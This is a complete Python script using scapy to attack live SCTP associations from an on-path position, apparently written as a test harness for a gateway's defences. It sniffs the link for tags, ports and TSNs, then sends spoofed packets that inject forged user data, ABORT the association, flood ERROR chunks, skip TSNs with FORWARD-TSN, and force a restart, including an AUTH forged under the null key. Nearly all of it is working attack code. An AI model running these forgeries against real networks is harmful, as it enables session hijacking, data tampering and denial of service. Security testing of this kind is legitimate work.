#!/usr/bin/python3
"""Forges SCTP chunks into a live association, as an attacker on a link
would: it learns what it needs by watching the link, then sends packets
that look like the peer's. Run in a site's namespace (as root) on one of
its link interfaces, where the peer's packets leave from:

    inject.py --iface l1 --src 10.1.0.1 --dst 10.1.0.2 [options] ACTION...

ACTIONs are done in order, --pause seconds (default 2) apart. Before each
it watches the packets SRC sends DST on IFACE (at most --sniff-s seconds)
until --want chunks of user data on streams other than 0 were seen (so
that it strikes while flows are live), and takes the verification tag DST expects,
the ports, the MAC addresses, the highest TSN sent so far, and which chunk
carries user data: I-DATA (type 64, RFC 8260; scapy has no class for it,
so the bytes are built here) or DATA.

  data   N (--count, default 64) complete unordered user messages of 16
         bytes, "FORGED-BY-INJECT", for the stream that carried the most
         user data while watching, with the TSNs that follow the highest
         seen (the next ones the receiver expects: the real sender then
         sends its own with those TSNs, which the receiver takes for
         duplicates) and the PPID of a gateway's DATA in clear; bundled 32
         to a packet.
  abort  one ABORT (T bit clear, so the tag is DST's own).
  error  N (--count) ERROR chunks, each with one cause, "invalid stream
         identifier" (1) for stream 65535, bundled 32 to a packet.
  fwdtsn one FORWARD-TSN (I-FORWARD-TSN where the association carries
         I-DATA, RFC 8260) moving the cumulative TSN --skip TSNs past the
         highest seen (default 16): told to skip TSNs never sent, the
         receiver acknowledges them, and the real sender, seeing its TSNs
         acknowledged beyond what it sent, aborts the association; told
         to skip TSNs in flight, the receiver drops them as duplicates.

  restart  an INIT in SRC's name (its address and the association's
         ports, no address list), then, from the INIT-ACK DST sends back
         (watched for at most 3 s), the COOKIE-ECHO with DST's cookie and
         no AUTH: to DST's kernel, SRC restarted, unless it requires AUTH
         of COOKIE-ECHO (RFC 4895), which nobody on the link can compute.
  restart0  the same, the INIT offering SCTP-AUTH (RANDOM, CHUNKS, HMAC-ALGO
         with SHA-1) and the COOKIE-ECHO carrying an AUTH under the
         well-known null key 0: the association's key from the null key
         and the parameters both INITs carried in clear (RFC 4895 6.1),
         which a kernel still holding key 0 for the association checks it
         with (offered_auth=0: the INIT-ACK offered no SCTP-AUTH, and the
         AUTH is made from the INIT's parameters alone).
  auth   one packet of an AUTH chunk whose HMAC is zeroes (key 1, HMAC
         --hmac-id, default 3 for SHA-256) and a HEARTBEAT behind it: both
         are dropped, the HMAC being wrong, but the receiver has read the
         packet's source by then; one naming an HMAC the receiver does
         not have (2 is reserved) draws an ERROR in reply. With --udp PORT
         (SCTP inside UDP, RFC 6951: watch and forge inside UDP to PORT)
         and --udp-sport N, the forged packet comes from UDP port N
         instead of the peer's.

The packets leave from IFACE with SRC's real addresses, so the receiving
kernel's checks (tag, ports, CRC32c, reverse path) all pass: only SCTP-AUTH
can tell them apart. Scapy takes seconds to load on a slow machine:
--ready-file F is created once it is loaded and watching begins, so the
caller can start the traffic then. Prints one line per action ("action:
key=value ..."); exits 1 when it saw no user data to learn from.
Needs /usr/bin/python3 with scapy (python3-scapy).
"""
import argparse
import hashlib
import hmac
import os
import socket
import struct
import sys
import time

from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.layers.sctp import SCTP
from scapy.packet import Raw
from scapy.sendrecv import sendp

ETH_P_ALL = 3
CID_DATA = 0
CID_INIT = 1
CID_INIT_ACK = 2
CID_COOKIE_ECHO = 10
PARAM_STATE_COOKIE = 7
PARAM_RANDOM, PARAM_CHUNKS, PARAM_HMAC_ALGO, PARAM_EXT = 0x8002, 0x8003, 0x8004, 0x8008
HMAC_SHA1 = 1
CID_HEARTBEAT = 4
CID_ABORT = 6
CID_ERROR = 9
CAUSE_INVALID_STREAM = 1
CID_AUTH = 0x0F
HMAC_SHA256 = 3
CID_IDATA = 64
CID_FWD_TSN = 0xC0
CID_IFWD_TSN = 0xC2
PPID_GW_DATA = 0x53470012  # a gateway's DATA message, not sealed
FORGED = b"FORGED-BY-INJECT"
PER_PACKET = 32


def tsn_after(a, b):
    """Serial number arithmetic (RFC 1982): a comes after b."""
    return a != b and ((a - b) & 0xFFFFFFFF) < 0x80000000


class Watch:
    """What the packets from src to dst told us."""

    def __init__(self):
        self.packets = 0
        self.user_chunks = 0
        self.tag = self.sport = self.dport = None
        self.mac_src = self.mac_dst = None
        self.top_tsn = None
        self.chunk_type = None
        self.per_stream = {}
        self.stream_chunks = 0
        self.udp_sport = None

    def take(self, frame, src, dst, udp):
        if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
            return
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != (17 if udp else 132) or ip[12:16] != src or ip[16:20] != dst:
            return
        total = struct.unpack(">H", ip[2:4])[0]
        # A GSO packet (seen before segmentation) may be longer than its
        # IP length says; Ethernet padding after a short one is not SCTP.
        sctp = ip[ihl:] if len(frame) > 1514 or total <= ihl else ip[ihl:total]
        if udp:
            if len(sctp) < 8 or struct.unpack(">H", sctp[2:4])[0] != udp:
                return
            self.udp_sport = struct.unpack(">H", sctp[0:2])[0]
            sctp = sctp[8:]
        if len(sctp) < 12:
            return
        sport, dport, tag = struct.unpack(">HHI", sctp[:8])
        self.packets += 1
        self.tag, self.sport, self.dport = tag, sport, dport
        self.mac_dst, self.mac_src = frame[0:6], frame[6:12]
        off = 12
        while off + 4 <= len(sctp):
            ctype, _flags, clen = struct.unpack(">BBH", sctp[off : off + 4])
            if clen < 4:
                break
            if ctype in (CID_DATA, CID_IDATA) and off + 16 <= len(sctp):
                tsn, sid = struct.unpack(">IH", sctp[off + 4 : off + 10])
                self.user_chunks += 1
                self.chunk_type = ctype
                if self.top_tsn is None or tsn_after(tsn, self.top_tsn):
                    self.top_tsn = tsn
                if sid != 0:
                    self.per_stream[sid] = self.per_stream.get(sid, 0) + 1
                    self.stream_chunks += 1
            off += (clen + 3) & ~3


def watch(iface, src, dst, seconds, want, udp):
    """Watches until `want` user chunks on streams > 0 were seen."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    w = Watch()
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline and w.stream_chunks < want:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                frame = s.recv(65536)
            except socket.timeout:
                break
            w.take(frame, src, dst, udp)
    finally:
        s.close()
    return w


def user_chunk(ctype, tsn, sid, payload):
    """A complete unordered message (flags U, B, E)."""
    if ctype == CID_IDATA:
        # type, flags, length | TSN | stream, reserved | MID | PPID (B set)
        hdr = struct.pack(">BBHIHHII", CID_IDATA, 0x07, 20 + len(payload), tsn, sid, 0, 0,
                          PPID_GW_DATA)
    else:
        # type, flags, length | TSN | stream, SSN | PPID
        hdr = struct.pack(">BBHIHHI", CID_DATA, 0x07, 16 + len(payload), tsn, sid, 0,
                          PPID_GW_DATA)
    chunk = hdr + payload
    return chunk + b"\0" * (-len(chunk) % 4)


def send(w, o, chunks):
    pkt = Ether(src=w.mac_src, dst=w.mac_dst) / IP(src=o.src, dst=o.dst, ttl=64)
    if o.udp:
        pkt = pkt / UDP(sport=o.udp_sport or w.udp_sport, dport=o.udp)
    pkt = pkt / SCTP(sport=w.sport, dport=w.dport, tag=w.tag) / Raw(chunks)
    sendp(pkt, iface=o.iface, verbose=False)


def init_ack_cookie(frame, src, dst, sport, dport, tag):
    """(initiate tag, state cookie, {param type: its TLV}) of an INIT-ACK
    from dst to src for the INIT that carried `tag`, or None."""
    if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 132 or ip[12:16] != dst or ip[16:20] != src:
        return None
    sctp = ip[ihl : struct.unpack(">H", ip[2:4])[0]]
    if len(sctp) < 12 + 20 or struct.unpack(">HHI", sctp[:8]) != (dport, sport, tag):
        return None
    ctype, _flags, clen = struct.unpack(">BBH", sctp[12:16])
    if ctype != CID_INIT_ACK:
        return None
    itag = struct.unpack(">I", sctp[16:20])[0]
    off, end, params = 12 + 20, min(len(sctp), 12 + clen), {}
    while off + 4 <= end:
        ptype, plen = struct.unpack(">HH", sctp[off : off + 4])
        if plen < 4:
            break
        params[ptype] = sctp[off : off + plen]
        off += (plen + 3) & ~3
    if PARAM_STATE_COOKIE not in params:
        return None
    return itag, params[PARAM_STATE_COOKIE][4:], params


def param(ptype, value):
    """A parameter's TLV (unpadded, as a key vector holds it)."""
    return struct.pack(">HH", ptype, 4 + len(value)) + value


def padded(b):
    return b + b"\0" * (-len(b) % 4)


def null_key_auth(mine, theirs, cookie_echo):
    """An AUTH chunk (key 0, HMAC-SHA-1) for cookie_echo, under the key RFC
    4895 6.1 gives the association with the null endpoint key: the smaller
    key vector (RANDOM || CHUNKS || HMAC-ALGO) first, compared as numbers
    as Linux does (sctp_auth_compare_vectors)."""
    def vector(p):
        return b"".join(p.get(t, b"") for t in (PARAM_RANDOM, PARAM_CHUNKS, PARAM_HMAC_ALGO))
    local, peer = vector(theirs), vector(mine)
    diff = len(local) - len(peer)
    longer = local if diff > 0 else peer
    cmp = diff if diff and any(longer[: abs(diff)]) else (local > peer) - (local < peer)
    key = local + peer if cmp < 0 else peer + local
    head = struct.pack(">BBHHH", CID_AUTH, 0, 8 + 20, 0, HMAC_SHA1)
    mac = hmac.new(key, head + bytes(20) + cookie_echo, hashlib.sha1).digest()
    return head + mac


def restart(w, o, src, dst, null_auth=False):
    """INIT in src's name, then the COOKIE-ECHO of dst's INIT-ACK (with
    null_auth, both offering SCTP-AUTH under the null key)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((o.iface, 0))
    tag = struct.unpack(">I", os.urandom(4))[0] | 1
    tsn = struct.unpack(">I", os.urandom(4))[0]
    mine = {}
    if null_auth:
        mine = {PARAM_RANDOM: param(PARAM_RANDOM, os.urandom(32)),
                PARAM_CHUNKS: param(PARAM_CHUNKS, bytes([CID_DATA])),
                PARAM_HMAC_ALGO: param(PARAM_HMAC_ALGO, struct.pack(">H", HMAC_SHA1))}
    params = b"".join(padded(p) for p in
                      [param(PARAM_EXT, bytes([CID_AUTH]))] * null_auth + list(mine.values()))
    # type, flags, length | initiate tag | a_rwnd | streams out, in | TSN
    w.tag = 0
    send(w, o, struct.pack(">BBHIIHHI", CID_INIT, 0, 20 + len(params), tag, 1 << 20, 16, 16,
                           tsn) + params)
    deadline, found = time.monotonic() + 3, None
    try:
        while not found and time.monotonic() < deadline:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                frame = s.recv(65536)
            except socket.timeout:
                break
            found = init_ack_cookie(frame, src, dst, w.sport, w.dport, tag)
    finally:
        s.close()
    if not found:
        return None
    w.tag, cookie, theirs = found
    chunk = padded(struct.pack(">BBH", CID_COOKIE_ECHO, 0, 4 + len(cookie)) + cookie)
    if null_auth:
        # An INIT-ACK that offers no SCTP-AUTH leaves the forger its own
        # key vector alone: the AUTH is sent all the same.
        chunk = null_key_auth(mine, theirs, chunk) + chunk
    send(w, o, chunk)
    return len(cookie), PARAM_RANDOM in theirs


def bad_auth(hmac_id):
    """AUTH (key 1, zeroes) and a HEARTBEAT after it."""
    auth = struct.pack(">BBHHH", CID_AUTH, 0, 8 + 32, 1, hmac_id) + bytes(32)
    info = struct.pack(">HH", 1, 4 + 8) + b"FORGED!!"  # Heartbeat Info
    return auth + struct.pack(">BBH", CID_HEARTBEAT, 0, 4 + len(info)) + info


def act(o, what, src, dst):
    w = watch(o.iface, src, dst, o.sniff_s, o.want, o.udp)
    seen = (f"packets={w.packets} user_chunks={w.user_chunks} "
            f"chunk={'I-DATA' if w.chunk_type == CID_IDATA else 'DATA'} "
            f"tag=0x{w.tag or 0:08x} ports={w.sport}->{w.dport} top_tsn={w.top_tsn}")
    if not w.per_stream:
        print(f"{what}: no user data seen to learn from; {seen}", flush=True)
        return False
    if o.udp:
        seen += f" udp={w.udp_sport}->{o.udp}"
    if what == "auth":
        send(w, o, bad_auth(o.hmac_id))
        print(f"auth: sent=1 udp_sport={o.udp_sport or w.udp_sport} {seen}", flush=True)
        return True
    if what in ("restart", "restart0"):
        r = restart(w, o, src, dst, what == "restart0")
        if r is None:
            print(f"{what}: no INIT-ACK came back; {seen}", flush=True)
            return False
        print(f"{what}: sent=1 cookie_bytes={r[0]} offered_auth={int(r[1])} {seen}", flush=True)
        return True
    if what == "abort":
        send(w, o, struct.pack(">BBH", CID_ABORT, 0, 4))
        print(f"abort: sent=1 {seen}", flush=True)
        return True
    if what == "error":
        cause = struct.pack(">HHHH", CAUSE_INVALID_STREAM, 8, 0xFFFF, 0)
        chunk = struct.pack(">BBH", CID_ERROR, 0, 4 + len(cause)) + cause
        for i in range(0, o.count, PER_PACKET):
            send(w, o, chunk * min(PER_PACKET, o.count - i))
        print(f"error: sent={o.count} {seen}", flush=True)
        return True
    if what == "fwdtsn":
        ctype = CID_IFWD_TSN if w.chunk_type == CID_IDATA else CID_FWD_TSN
        cum = (w.top_tsn + o.skip) & 0xFFFFFFFF
        send(w, o, struct.pack(">BBHI", ctype, 0, 8, cum))
        print(f"fwdtsn: sent=1 new_cum_tsn={cum} {seen}", flush=True)
        return True
    sid = max(w.per_stream, key=w.per_stream.get)
    first = (w.top_tsn + 1) & 0xFFFFFFFF
    chunks = [user_chunk(w.chunk_type, (first + i) & 0xFFFFFFFF, sid, FORGED)
              for i in range(o.count)]
    for i in range(0, len(chunks), PER_PACKET):
        send(w, o, b"".join(chunks[i : i + PER_PACKET]))
    print(f"data: sent={o.count} stream={sid} first_tsn={first} {seen}", flush=True)
    return True


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn", "auth", "error", "restart",
                                           "restart0"])
    p.add_argument("--iface", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--count", type=int, default=64)
    p.add_argument("--skip", type=int, default=16)
    p.add_argument("--sniff-s", type=float, default=30.0)
    p.add_argument("--want", type=int, default=20)
    p.add_argument("--pause", type=float, default=2.0)
    p.add_argument("--ready-file")
    p.add_argument("--udp", type=int, default=0)
    p.add_argument("--udp-sport", type=int, default=0)
    p.add_argument("--hmac-id", type=int, default=HMAC_SHA256)
    o = p.parse_args()
    src, dst = socket.inet_aton(o.src), socket.inet_aton(o.dst)
    if o.ready_file:
        open(o.ready_file, "w").close()
    for i, what in enumerate(o.actions):
        if i:
            time.sleep(o.pause)
        if not act(o, what, src, dst):
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
